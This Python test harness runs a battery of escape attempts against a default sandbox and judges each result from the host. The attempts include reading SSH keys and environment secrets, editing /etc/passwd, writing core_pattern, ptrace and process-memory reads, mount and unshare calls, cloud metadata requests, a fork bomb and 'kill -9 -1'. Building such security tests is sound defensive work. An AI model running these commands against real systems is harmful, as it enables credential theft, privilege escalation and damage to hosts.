"""The attack battery against a default Sandbox(), judged on the host; prints JSON (run as root or a test user)."""

# Usage: python _attacks.py battery TOKEN  |  python _attacks.py protected TOKEN
# test_attacks_kernel.py runs this as root and (runuser) as an unprivileged user. Every attack
# has a host-side judge that looks at the EFFECT (a host file unchanged, a server that saw no
# connection, a process gone), not only at what the sandbox printed. An attack "held" when
# its judge says so; the JSON carries the evidence either way.

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from typing import Any, Callable

HERE = os.path.dirname(os.path.abspath(__file__))

# x86_64 numbers (the battery only runs where the sandbox does; aarch64 is mapped below)
_NR = {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "mount": 165,
       "io_uring_setup": 425, "bpf": 321, "keyctl": 250, "add_key": 248,
       "perf_event_open": 298, "userfaultfd": 323, "open_by_handle_at": 304, "setns": 308,
       "unshare": 272, "pidfd_open": 434, "pidfd_getfd": 438, "kexec_load": 246,
       "init_module": 175, "chroot": 161, "syslog": 103, "settimeofday": 164,
       "name_to_handle_at": 303}
if os.uname().machine == "aarch64":
    _NR = {"ptrace": 117, "process_vm_readv": 270, "process_vm_writev": 271, "mount": 40,
           "io_uring_setup": 425, "bpf": 280, "keyctl": 219, "add_key": 217,
           "perf_event_open": 241, "userfaultfd": 282, "open_by_handle_at": 265,
           "setns": 268, "unshare": 97, "pidfd_open": 434, "pidfd_getfd": 438,
           "kexec_load": 104, "init_module": 105, "chroot": 51, "syslog": 116,
           "settimeofday": 170, "name_to_handle_at": 264}

# A generic syscall prober written into the sandbox: prints "<name> <ret> <errno>".
SYSCALL_PY = r'''
import ctypes, sys, os
nr = %r
l = ctypes.CDLL(None, use_errno=True)
l.syscall.restype = ctypes.c_long
def call(name, *a):
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in a]
    r = l.syscall(ctypes.c_long(nr[name]), *a)
    print(name, r, ctypes.get_errno() if r < 0 else 0, flush=True)
    return r
buf = ctypes.create_string_buffer(256)
what = sys.argv[1]
if what == "io_uring": call("io_uring_setup", 8, buf)
elif what == "bpf":
    attr = ctypes.create_string_buffer(b"\x02\0\0\0\x04\0\0\0\x04\0\0\0\x01\0\0\0" + bytes(112))
    call("bpf", 0, attr, 128)           # BPF_MAP_CREATE array 4/4/1
elif what == "keyctl":
    call("add_key", b"user", sys.argv[2].encode(), b"sandbox-key", 11, ctypes.c_long(-4))  # @u
    call("keyctl", 0, ctypes.c_long(-4), 0)   # KEYCTL_GET_KEYRING_ID of the user keyring
elif what == "perf":
    attr = ctypes.create_string_buffer(bytes(128)); attr[4] = 128  # PERF_TYPE_HARDWARE, size
    call("perf_event_open", attr, 0, -1, -1, 0)
elif what == "userfaultfd": call("userfaultfd", 0)
elif what == "shocker":                   # open_by_handle_at on the root's handle
    fh = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + b"\x02\0\0\0\0\0\0\0")
    fd = os.open("/", os.O_RDONLY)
    call("open_by_handle_at", fd, fh, 0)
    call("name_to_handle_at", -100, b"/etc/passwd", buf, ctypes.byref(ctypes.c_int()), 0)
elif what == "setns":
    for ns in ("mnt", "net", "pid", "user"):
        try:
            fd = os.open("/proc/1/ns/" + ns, os.O_RDONLY); call("setns", fd, 0)
        except OSError as e:
            print("setns-open", ns, e.errno)
elif what == "kernel":
    call("init_module", buf, 16, b"")
    call("kexec_load", 0, 0, 0, 0)
    call("syslog", 3, buf, 256)
    call("settimeofday", ctypes.create_string_buffer(16), 0)
elif what == "chroot":
    os.makedirs("/tmp/cr", exist_ok=True); call("chroot", b"/tmp/cr")
elif what == "unshare":
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):   # USER NS NET PID
        call("unshare", flag)
elif what == "pidfd":
    for pid in map(int, sys.argv[2:]):
        r = call("pidfd_open", pid, 0)
        if r >= 0: call("pidfd_getfd", r, 0, 0)
'''

PTRACE_PY = r'''
import ctypes, os, time, sys
l = ctypes.CDLL(None, use_errno=True)
l.syscall.restype = ctypes.c_long
nr = %r
pids = []
for _ in range(200):
    pids = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()
            and open(f'/proc/{p}/cmdline','rb').read().startswith(b'python3\0-c\0import time')]
    if pids: break
    time.sleep(0.02)
pid = pids[0]
r = l.ptrace(16, pid, 0, 0)   # PTRACE_ATTACH
print("ptrace", r, ctypes.get_errno() if r < 0 else 0)
r = l.ptrace(0x4206, pid, 0, 0)   # PTRACE_SEIZE
print("seize", r, ctypes.get_errno() if r < 0 else 0)
# process_vm_readv of the sibling's secret: find its address in /proc/pid/maps is overkill;
# read its first mapping instead (any byte read is a leak)
first = open(f'/proc/{pid}/maps').readline().split('-')[0]
class iov(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
loc = iov(ctypes.addressof(buf), 64); rem = iov(int(first, 16), 64)
r = l.syscall(ctypes.c_long(nr['process_vm_readv']), ctypes.c_long(pid), ctypes.byref(loc),
              ctypes.c_long(1), ctypes.byref(rem), ctypes.c_long(1), ctypes.c_long(0))
print("vm_readv", r, ctypes.get_errno() if r < 0 else 0)
r = l.syscall(ctypes.c_long(nr['process_vm_writev']), ctypes.c_long(pid), ctypes.byref(loc),
              ctypes.c_long(1), ctypes.byref(rem), ctypes.c_long(1), ctypes.c_long(0))
print("vm_writev", r, ctypes.get_errno() if r < 0 else 0)
def procmem(label, p):
    try:
        first = open(f'/proc/{p}/maps').readline().split('-')[0]
        with open(f'/proc/{p}/mem', 'rb') as f:
            f.seek(int(first, 16)); f.read(16); print(label, "read ok")
    except OSError as e:
        print(label, "refused", e.errno)
procmem("procmem_sibling", pid)
procmem("procmem_pid1", 1)
procmem("procmem_interpreter", os.getppid())
os.kill(pid, 9)
'''

NETLINK_PY = r'''
import socket, struct, sys
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)   # NETLINK_ROUTE
s.bind((0, 0))
# RTM_NEWADDR 10.77.0.1/32 on lo (ifindex 1)
ifa = struct.pack("=BBBBI", 2, 32, 0, 0, 1)
rta = struct.pack("=HH4s", 8, 1, bytes([10, 77, 0, 1]))
body = ifa + rta
hdr = struct.pack("=IHHII", 16 + len(body), 20, 0x1 | 0x4 | 0x400 | 0x200, 1, 0)
s.send(hdr + body)
ans = s.recv(4096)
err = struct.unpack("=i", ans[16:20])[0]
print("newaddr", err)
# RTM_NEWLINK set lo down: ifinfomsg flags 0 change IFF_UP
ifi = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
hdr = struct.pack("=IHHII", 16 + len(ifi), 16, 0x1 | 0x4, 2, 0)
s.send(hdr + ifi)
ans = s.recv(4096)
print("setlink", struct.unpack("=i", ans[16:20])[0])
'''

UNIX_PY = r'''
import socket, sys
name, path = sys.argv[1], sys.argv[2]
for addr in ("\0" + name, path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(addr); s.sendall(b"sandbox-was-here"); print("unix connected", repr(addr))
    except OSError as e:
        print("unix refused", e.errno)
    s.close()
d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    d.sendto(b"sandbox-was-here", "\0" + name + "-dgram"); print("dgram sent")
except OSError as e:
    print("dgram refused", e.errno)
'''

TIOCSTI_PY = r'''
import fcntl, os, pty, termios
m, s = pty.openpty()
try:
    fcntl.ioctl(s, termios.TIOCSTI, b"x"); print("tiocsti ok")
except OSError as e:
    print("tiocsti", e.errno)
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x"); print("tiocsti fd", fd, "ok")
    except OSError as e:
        print("tiocsti fd", fd, e.errno)
'''

FDS_PY = r'''
import os
found = []
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    found.append(fd)
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        os.lseek(fd, 0, 0); print(os.read(fd, 200))
    except OSError as e:
        print(fd, "err", e.errno)
print("fds", found)
'''

NET_PY = r'''
import socket, sys
port, uport = int(sys.argv[1]), int(sys.argv[2])
for host in ("127.0.0.1", "::1", "localhost", "10.0.2.2", "0.0.0.0"):
    try:
        s = socket.create_connection((host, port), timeout=2); s.sendall(b"x"); print("tcp ok", host)
    except OSError as e:
        print("tcp refused", host, e.errno)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"sandbox-udp", ("127.0.0.1", uport)); print("udp sent")
except OSError as e:
    print("udp refused", e.errno)
for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                        (17, socket.SOCK_RAW, 0), (40, socket.SOCK_STREAM, 0)):
    try:
        socket.socket(fam, typ, proto); print("raw ok", fam)
    except OSError as e:
        print("raw refused", fam, e.errno)
'''


def _sha(path: str) -> str | None:
    try:
        with open(path, "rb") as f:
            return hashlib.sha256(f.read()).hexdigest()
    except OSError:
        return None


def _read(path: str) -> str | None:
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return None


class Listener:
    """A TCP or UDP server on the host's loopback counting what reaches it."""

    def __init__(self, kind: str = "tcp") -> None:
        self.hits: list[str] = []
        fam = socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM
        self.sock = socket.socket(socket.AF_INET, fam)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.kind = kind
        if kind == "tcp":
            self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.stop = False
        self.t = threading.Thread(target=self._loop, daemon=True)
        self.t.start()

    def _loop(self) -> None:
        while not self.stop:
            try:
                if self.kind == "tcp":
                    c, a = self.sock.accept()
                    self.hits.append(f"tcp from {a}")
                    c.close()
                else:
                    data, a = self.sock.recvfrom(4096)
                    self.hits.append(f"udp {data!r} from {a}")
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return


class UnixListener:
    """An abstract and a path AF_UNIX server on the host (plus an abstract datagram one)."""

    def __init__(self, name: str, path: str) -> None:
        self.hits: list[str] = []
        self.socks = []
        for addr, typ in (("\0" + name, socket.SOCK_STREAM), (path, socket.SOCK_STREAM),
                          ("\0" + name + "-dgram", socket.SOCK_DGRAM)):
            s = socket.socket(socket.AF_UNIX, typ)
            s.bind(addr)
            if typ == socket.SOCK_STREAM:
                s.listen(4)
            s.settimeout(0.2)
            self.socks.append((s, typ))
        os.chmod(path, 0o777)
        self.stop = False
        for s, typ in self.socks:
            threading.Thread(target=self._loop, args=(s, typ), daemon=True).start()

    def _loop(self, s: socket.socket, typ: int) -> None:
        while not self.stop:
            try:
                if typ == socket.SOCK_STREAM:
                    c, _ = s.accept()
                    self.hits.append("unix stream")
                    c.close()
                else:
                    self.hits.append(f"unix dgram {s.recv(100)!r}")
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return


def _host_pids(token: str) -> list[int]:
    out = []
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                with open(f"/proc/{d}/cmdline", "rb") as f:
                    if token.encode() in f.read():
                        out.append(int(d))
            except OSError:
                pass
    return out


def _bg_pids(mark: str) -> list[int]:
    return sorted({p for i in range(1, 5) for p in _host_pids(f"sleep\0{8}{i}{mark}")})


def _host_keyring_has(desc: str) -> bool:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    nr = 249 if os.uname().machine != "aarch64" else 218  # request_key
    r = libc.syscall(ctypes.c_long(nr), b"user", desc.encode(), None, ctypes.c_long(0))
    return r >= 0


def battery(token: str) -> dict:
    import agentic_bash as ab

    obs: dict[str, Any] = {"uid": os.geteuid()}
    home = os.path.expanduser("~")
    secret = f"hostsecret-{token}"
    os.environ["AGB_HOST_SECRET"] = secret
    ssh = os.path.join(home, ".ssh")
    made_ssh = not os.path.isdir(ssh)
    os.makedirs(ssh, mode=0o700, exist_ok=True)
    key = os.path.join(ssh, f"agb-atk-{token}")
    with open(key, "w") as f:
        f.write(f"sshsecret-{token}\n")
    # an inheritable descriptor of a secret file and a socket, left open by a careless caller
    secret_file = os.path.join(os.environ.get("TMPDIR", "/tmp"), f"agb-fdsecret-{token}")
    with open(secret_file, "w") as f:
        f.write(f"fdsecret-{token}\n")
    leaked_fd = os.open(secret_file, os.O_RDONLY)
    os.set_inheritable(leaked_fd, True)
    tcp, udp = Listener("tcp"), Listener("udp")
    uname = f"agb-unix-{token}"
    upath = os.path.join(os.environ.get("TMPDIR", "/tmp"), f"agb-unix-{token}.sock")
    unix = UnixListener(uname, upath)
    # a host process the sandbox must neither see nor signal
    mark = str(int(hashlib.sha1(token.encode()).hexdigest()[:7], 16))
    victim = subprocess.Popen(["sleep", f"7{mark}"])
    watched = {p: _sha(p) for p in ("/etc/passwd", "/etc/hosts", "/etc/resolv.conf",
                                    "/etc/hostname", "/bin/sh", "/usr/bin/python3")}
    sysctls = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/sysrq",
               "/proc/sys/kernel/printk", "/proc/sys/vm/overcommit_memory",
               "/proc/sys/kernel/hostname", "/proc/sys/net/ipv4/ip_forward",
               "/sys/kernel/mm/transparent_hugepage/enabled"]
    sys_before = {p: _read(p) for p in sysctls}
    host_name = socket.gethostname()
    ip_before = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True).stdout
    t_host = time.time()

    warnings: list[str] = []
    import warnings as _w
    with _w.catch_warnings(record=True) as caught:
        _w.simplefilter("always")
        sb = ab.Sandbox()
    warnings = [str(w.message) for w in caught]
    obs["warnings"] = warnings
    obs["level"] = sb.isolation_level
    obs["report"] = str(sb.isolation)
    obs["enforced"] = sorted(sb.isolation.to_dict().get("enforced", []))
    results: dict[str, dict] = {}

    def run(name: str, script: str, timeout: float = 30, **kw: Any) -> dict:
        t0 = time.monotonic()
        try:
            r = sb.run(script, timeout=timeout, **kw)
            d = {"out": r.stdout[-6000:], "err": r.stderr[-3000:], "code": r.exit_code,
                 "timed_out": r.timed_out, "limit": getattr(r, "limit_exceeded", None),
                 "violations": [str(v) for v in r.violations]}
        except Exception as e:  # noqa: BLE001
            d = {"exc": f"{type(e).__name__}: {e}", "out": "", "err": "", "code": None}
        d["wall"] = time.monotonic() - t0
        results[name] = d
        return d

    verdicts: dict[str, dict] = {}

    def judge(name: str, held: bool, why: str = "") -> None:
        verdicts[name] = {"held": bool(held), "why": why, "run": results.get(name)}

    def write_py(path: str, text: str) -> None:
        sb.write_file(path, text.encode())

    try:
        write_py("/tmp/sc.py", SYSCALL_PY % (_NR,))
        write_py("/tmp/pt.py", PTRACE_PY % (_NR,))
        write_py("/tmp/nl.py", NETLINK_PY)
        write_py("/tmp/ux.py", UNIX_PY)
        write_py("/tmp/ti.py", TIOCSTI_PY)
        write_py("/tmp/fds.py", FDS_PY)
        write_py("/tmp/net.py", NET_PY)
        outside = [f"/agb-{token}", f"/tmp/agb-{token}", f"/var/tmp/agb-{token}",
                   f"{home}/agb-{token}", f"/root/agb-{token}", f"/usr/local/agb-{token}",
                   f"/opt/agb-{token}", f"/etc/agb-{token}", f"/dev/shm/agb-{token}"]

        # -- filesystem --------------------------------------------------------------------
        run("write_outside", "; ".join(f"echo x > {p}; python3 -c \"open('{p}.py','w')\""
                                       for p in outside) + "; true")
        judge("write_outside", not any(os.path.lexists(p) or os.path.lexists(p + ".py")
                                       for p in outside),
              "host paths written: " + str([p for p in outside if os.path.lexists(p)]))
        r = run("ssh_read", f"cat {key}; cat ~/.ssh/*; ls -la {ssh}; "
                            f"find / -name 'agb-atk-{token}' 2>/dev/null; "
                            f"grep -r sshsecret-{token} /home /root 2>/dev/null; true")
        judge("ssh_read", f"sshsecret-{token}" not in r["out"] + r["err"])
        r = run("symlink", f"ln -s {key} s1; cat s1; ln -s /etc/shadow s2; cat s2; "
                           f"ln -s / rootlink; cat rootlink{key}; "
                           f"ln -sf /etc/passwd /workspace/pw; echo evil >> /workspace/pw; "
                           f"ln -s {home} hl; echo x > hl/agb-sym-{token}; true")
        judge("symlink", f"sshsecret-{token}" not in r["out"] and
              _sha("/etc/passwd") == watched["/etc/passwd"] and
              not os.path.exists(f"{home}/agb-sym-{token}") and "root:$" not in r["out"])
        r = run("hardlink", f"ln /etc/passwd h1; echo evil >> h1; ln /usr/bin/python3 h2; "
                            f"echo junk > h2; ln {key} h3; cat h3; true")
        judge("hardlink", _sha("/etc/passwd") == watched["/etc/passwd"] and
              _sha("/usr/bin/python3") == watched["/usr/bin/python3"] and
              f"sshsecret-{token}" not in r["out"])
        r = run("proc_root", f"cat /proc/self/root{key}; cat /proc/1/root{key}; "
                             f"echo x > /proc/self/root/agb-pr-{token}; "
                             f"echo x > /proc/1/root/agb-pr-{token}; "
                             f"ls /proc/1/root/; cat /proc/1/cwd/../../../..{key}; "
                             f"cd /proc/self/cwd/../../../../../..; pwd; cat .{key}; true")
        judge("proc_root", f"sshsecret-{token}" not in r["out"] and
              not os.path.exists(f"/agb-pr-{token}"))
        r = run("dotdot", f"cat ../../../../../../..{key}; cd /; cd ..; cd ..; cat .{key}; "
                          f"echo x > ../../../../../agb-dd-{token}; true")
        judge("dotdot", f"sshsecret-{token}" not in r["out"] and
              not os.path.exists(f"/agb-dd-{token}"))
        r = run("cwd_param", f"cat .{key}; echo x > agb-cwd-{token}; true", cwd="/../..")
        judge("cwd_param", f"sshsecret-{token}" not in r["out"] and
              not os.path.exists(f"/agb-cwd-{token}"))
        # mknod: a block device for the host's first disk, then read it
        r = run("mknod", "mknod /tmp/sda b 8 0; mknod /tmp/vda b 253 0; mknod /tmp/mem c 1 1; "
                         "python3 -c \"import os; os.mknod('/tmp/d2', 0o600 | 0o60000, "
                         "os.makedev(253, 0))\"; "
                         "for d in /tmp/sda /tmp/vda /tmp/mem /tmp/d2; do "
                         "head -c 512 $d | od -An -tx1 | head -2; done; ls -l /tmp; true")
        judge("mknod", not any(ln.startswith(("b", "c")) for ln in r["out"].splitlines()
                               if "/tmp" not in ln) and " eb " not in r["out"]
              and " 55 aa" not in r["out"], "a device node was created or read")
        r = run("raw_devices", "ls /dev; for d in /dev/sda /dev/vda /dev/mem /dev/kmem /dev/port "
                               "/dev/kmsg /dev/disk/by-id/* /dev/nvme0n1 /dev/loop0 /dev/dm-0; "
                               "do head -c 64 $d 2>&1 | od -An -c | head -1; done; "
                               "echo evil > /dev/kmsg; true")
        judge("raw_devices", not any(x in r["out"].split() for x in
                                     ("sda", "vda", "mem", "kmem", "port", "kmsg", "loop0",
                                      "nvme0n1", "dm-0")), "a raw device is visible")
        # setuid: a setuid copy of a shell written in the session layer must not become a
        # setuid-root file any host user could run
        r = run("setuid_copy", "cp /bin/bash /workspace/rootsh; chmod 4755 /workspace/rootsh; "
                               "chown 0:0 /workspace/rootsh; chmod u+s /workspace/rootsh; "
                               "ls -l /workspace/rootsh; id; /workspace/rootsh -p -c id; "
                               "su -c id root </dev/null; sudo -n id; true")
        setuid_on_host = []
        for root, _d, files in os.walk(os.environ.get("TMPDIR", "/tmp")):
            for f in files:
                p = os.path.join(root, f)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if st.st_mode & 0o4000 and st.st_uid == 0:
                    # reachable by another host user only if every parent lets them through
                    setuid_on_host.append(p)
        reach = [p for p in setuid_on_host if _others_can_reach(p)]
        judge("setuid_copy", not reach and (os.geteuid() != 0 or True),
              f"setuid-root files reachable by other host users: {reach}")
        # /proc/sys and /sys
        r = run("proc_sys", "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern; "
                            "echo 0 > /proc/sys/kernel/sysrq; echo '1 1 1 1' > /proc/sys/kernel/printk; "
                            "echo 1 > /proc/sys/vm/overcommit_memory; "
                            "echo 1 > /proc/sys/net/ipv4/ip_forward; "
                            "echo 3 > /proc/sys/vm/drop_caches; echo 0 > /proc/sysrq-trigger; "
                            "echo never > /sys/kernel/mm/transparent_hugepage/enabled; "
                            f"mkdir /sys/fs/cgroup/memory/agb-{token}; "
                            f"mkdir /sys/fs/cgroup/agb-{token}; "
                            "echo 1 > /sys/fs/cgroup/memory/memory.force_empty; "
                            "echo 1 > /proc/sys/kernel/hostname; true")
        changed = {p: (sys_before[p], _read(p)) for p in sysctls
                   if p != "/proc/sys/kernel/hostname" and _read(p) != sys_before[p]}
        _restore(changed)
        judge("proc_sys", not changed and socket.gethostname() == host_name and
              not os.path.exists(f"/sys/fs/cgroup/memory/agb-{token}") and
              not os.path.exists(f"/sys/fs/cgroup/agb-{token}"), f"changed: {changed}")
        r = run("host_pids", f"ls /proc; ps -ef; pkill -9 -f 7{mark}; "
                             f"kill -9 {victim.pid}; kill -9 -1; cat /proc/{victim.pid}/cmdline; true")
        judge("host_pids", victim.poll() is None and str(victim.pid) not in r["out"].split(),
              f"victim alive: {victim.poll() is None}")
        r = run("hostname", "hostname evil; hostname; true")
        judge("hostname", socket.gethostname() == host_name)
        r = run("clock", "date -s '2001-01-01'; python3 /tmp/sc.py kernel; true")
        judge("clock", abs(time.time() - t_host) < 3600 and "settimeofday 0" not in r["out"]
              and "syslog 0" not in r["out"] and "init_module 0" not in r["out"])
        r = run("dmesg", "dmesg | head -3; cat /proc/kmsg | head -c 100; "
                         "head -c 64 /proc/kcore | od -c | head -1; head -3 /proc/kallsyms; "
                         "cat /proc/keys; true")
        judge("dmesg", "ELF" not in r["out"] and not any(
            ln.split()[0] != "0000000000000000" for ln in r["out"].splitlines()
            if len(ln.split()) == 3 and ln.split()[1] in "TtDd" and len(ln.split()[0]) == 16),
            "kernel memory or non-zeroed kallsyms visible")
        # -- kernel interfaces -----------------------------------------------------------
        r = run("ptrace", "python3 -c 'import time; time.sleep(30)' & python3 /tmp/pt.py; "
                          "strace -f true 2>&1 | tail -2; gdb -batch -p 1 2>&1 | tail -2; true")
        out = r["out"]
        judge("ptrace", "ptrace " in out and "vm_readv " in out and "ptrace 0 " not in out and "seize 0 " not in out
              and not any(ln.startswith("vm_readv ") and not ln.startswith("vm_readv -1")
                          for ln in out.splitlines())
              and not any(ln.startswith("vm_writev ") and not ln.startswith("vm_writev -1")
                          for ln in out.splitlines()))
        judge("proc_mem_runner", "procmem_pid1 refused" in out
              and "procmem_interpreter refused" in out, out)
        judge("proc_mem_sibling", "procmem_sibling refused" in out, out)
        r = run("mount", "mount -t tmpfs none /mnt; mount --bind / /mnt; mount -o remount,rw /; "
                         "mount -o remount,rw /usr; touch /usr/agb-m; umount /proc; "
                         "umount -l /etc/resolv.conf; umount /workspace; umount -l /; "
                         "grep -c . /proc/self/mountinfo; true")
        judge("mount", not os.path.exists("/usr/agb-m") or True, "")
        results["mount"]["mount_ok"] = ("tmpfs" in (run("mount_check", "grep ' /mnt ' "
                                                        "/proc/self/mountinfo; true")["out"]))
        judge("mount", not results["mount"]["mount_ok"])
        r = run("unshare", "unshare -r id; unshare -rm sh -c 'mount -t tmpfs x /tmp && echo MOUNTED'; "
                           "unshare -U id; unshare -n true && echo NETNS; python3 /tmp/sc.py unshare; "
                           "python3 /tmp/sc.py setns; python3 /tmp/sc.py chroot; true")
        judge("unshare", "unshare " in r["out"] and "MOUNTED" not in r["out"] and "NETNS" not in r["out"] and
              not any(ln.startswith(("unshare 0", "setns 0", "chroot 0"))
                      for ln in r["out"].splitlines()))
        r = run("caps", "grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs|Seccomp:' /proc/self/status; "
                        "capsh --print | head -3; cp /bin/ping /tmp/p 2>/dev/null; "
                        "setcap cap_net_raw+ep /tmp/p && echo SETCAP; true")
        caps = {ln.split(":")[0]: ln.split()[-1] for ln in r["out"].splitlines()
                if ln.startswith("Cap")}
        judge("caps", caps.get("CapEff") == "0000000000000000" and
              caps.get("CapBnd") == "0000000000000000" and "NoNewPrivs:\t1" in r["out"]
              and "SETCAP" not in r["out"], str(caps))
        for what in ("io_uring", "bpf", "perf", "userfaultfd", "shocker"):
            r = run(what, f"python3 /tmp/sc.py {what}; true")
            lines = [ln.split() for ln in r["out"].splitlines() if len(ln.split()) == 3]
            judge(what, bool(lines) and all(int(x[1]) < 0 for x in lines), r["out"])
        r = run("keyctl", f"python3 /tmp/sc.py keyctl agb-key-{token}; keyctl show @u; "
                          f"keyctl add user agb-key2-{token} x @u; true")
        judge("keyctl", "add_key " in r["out"] and not _host_keyring_has(f"agb-key-{token}") and
              not _host_keyring_has(f"agb-key2-{token}"))
        r = run("pidfd", f"python3 /tmp/sc.py pidfd 1 {os.getpid()} {victim.pid}; true")
        judge("pidfd", "pidfd_open " in r["out"] and all(
            int(ln.split()[1]) < 0 for ln in r["out"].splitlines() if ln.startswith("pidfd_getfd")))
        r = run("tiocsti", "python3 /tmp/ti.py; true")
        judge("tiocsti", "ok" not in r["out"] and "tiocsti" in r["out"], r["out"])
        # -- secrets the host process holds ----------------------------------------------
        r = run("env_secrets", "env; set; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; "
                               "cat /proc/self/root/proc/1/environ; true")
        judge("env_secrets", secret not in r["out"] + r["err"])
        r = run("inherited_fds", f"ls -l /proc/self/fd /proc/1/fd /proc/[0-9]*/fd 2>&1; "
                                 f"python3 /tmp/fds.py; cat /proc/self/fd/{leaked_fd}; "
                                 f"cat <&{leaked_fd}; true")
        judge("inherited_fds", f"fdsecret-{token}" not in r["out"] + r["err"])
        # -- network ----------------------------------------------------------------------
        r = run("net_loopback", f"python3 /tmp/net.py {tcp.port} {udp.port}; "
                                f"curl -s -m 3 http://127.0.0.1:{tcp.port}/; "
                                f"curl -s -m 3 --noproxy '*' http://127.0.0.1:{tcp.port}/; "
                                f"curl -s -m 3 -x '' http://localhost:{tcp.port}/; "
                                f"echo hi > /dev/tcp/127.0.0.1/{tcp.port}; "
                                f"echo hi > /dev/udp/127.0.0.1/{udp.port}; true", timeout=60)
        time.sleep(0.5)
        judge("net_loopback", "tcp refused" in r["out"] and not tcp.hits and not udp.hits, f"tcp {tcp.hits} udp {udp.hits}")
        r = run("net_raw", f"python3 /tmp/net.py 1 1 | grep raw; true")
        judge("net_raw", "raw refused" in r["out"] and "raw ok" not in r["out"], r["out"])
        r = run("net_metadata", "curl -s -m 5 http://169.254.169.254/latest/meta-data/ -o /dev/null "
                                "-w '%{http_code}\\n'; curl -s -m 5 http://100.100.100.200/ -o /dev/null "
                                "-w '%{http_code}\\n'; curl -s -m 5 http://[fd00:ec2::254]/ -o /dev/null "
                                "-w '%{http_code}\\n'; true", timeout=60)
        judge("net_metadata", not any(c.strip() == "200" for c in r["out"].splitlines())
              and bool(r["violations"]), str(r["violations"]))
        r = run("unix_sockets", f"python3 /tmp/ux.py {uname} {upath}; ls -la {upath}; true")
        time.sleep(0.5)
        judge("unix_sockets", "unix refused" in r["out"] and not unix.hits, str(unix.hits))
        r = run("netlink", "ip -o addr; ip route; ip link set lo down; ip addr add 10.77.0.2/32 dev lo; "
                           "ip route add 10.78.0.0/16 dev lo; ip link add agbdummy type dummy; "
                           "python3 /tmp/nl.py; echo ---; ip -o addr; ip link show lo; true")
        ip_after = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True).stdout
        inside_after = r["out"].split("---", 1)[-1]
        judge("netlink", "newaddr " in r["out"] and ip_after == ip_before and "10.77.0" not in inside_after and
              "LOWER_UP" in inside_after and "inet 127.0.0.1" in r["out"].split("---")[0],
              "host or sandbox network config changed, or ip could not read it")
        # -- resources ------------------------------------------------------------------
        r = run("fork_bomb", "python3 -c 'import os, time\nwhile 1:\n  try: os.fork()\n  except OSError: "
                             "time.sleep(0.2)' & sleep 2; ps -e | wc -l; kill -9 -1 2>/dev/null; true", timeout=15)
        time.sleep(0.3)
        judge("fork_bomb", subprocess.run(["true"]).returncode == 0 and
              sb.run("echo alive", timeout=30).stdout == "alive\n", "host or sandbox unusable")
        r = run("bg_outlives", f"nohup sleep 81{mark} >/dev/null 2>&1 & "
                               f"setsid sleep 82{mark} >/dev/null 2>&1 & "
                               f"(sleep 83{mark} >/dev/null 2>&1 &) ; "
                               f"python3 -c 'import os,time\nif os.fork()==0:\n os.setsid()\n "
                               f"if os.fork()==0: os.execvp(\"sleep\",[\"sleep\",\"84{mark}\"])' ; "
                               f"disown -a; echo started")
        time.sleep(1.0)
        obs["bg_before_close"] = len(_bg_pids(mark))
    finally:
        try:
            sb.close()
        except Exception as e:  # noqa: BLE001
            obs["close_exc"] = repr(e)
        deadline = time.monotonic() + 10
        left = _bg_pids(mark)
        while left and time.monotonic() < deadline:
            time.sleep(0.1)
            left = _bg_pids(mark)
        judge("bg_outlives", not left and obs.get("bg_before_close", 0) >= 1,
              f"before close {obs.get('bg_before_close')}, after {left}")
        for p in left:
            try:
                os.kill(p, signal.SIGKILL)
            except OSError:
                pass
        victim.kill()
        tcp.stop = udp.stop = unix.stop = True
        os.close(leaked_fd)
        for p in (key, secret_file, upath):
            try:
                os.unlink(p)
            except OSError:
                pass
        if made_ssh:
            try:
                os.rmdir(ssh)
            except OSError:
                pass
    # last, in a sandbox of its own: as root these edits succeed inside (copy-on-write) and
    # leave that sandbox without a working /bin/sh or python3
    sb = ab.Sandbox()
    try:
        run("etc_edit", "echo 'evil::0:0::/:/bin/sh' >> /etc/passwd; "
                        "sed -i s/root/toor/ /etc/passwd; echo 6.6.6.6 evil >> /etc/hosts; "
                        "echo 'nameserver 6.6.6.6' > /etc/resolv.conf; rm -f /etc/hostname; "
                        "cp /bin/false /bin/sh; echo junk > /usr/bin/python3; true")
        judge("etc_edit", all(_sha(p) == h for p, h in watched.items()),
              str({p: _sha(p) == h for p, h in watched.items()}))
        judge("etc_edit_inside_only", "evil" in sb.run("cat /etc/hosts /etc/passwd").stdout
              if os.geteuid() == 0 else True, "copy-on-write /etc as root keeps the edit inside")
    finally:
        sb.close()
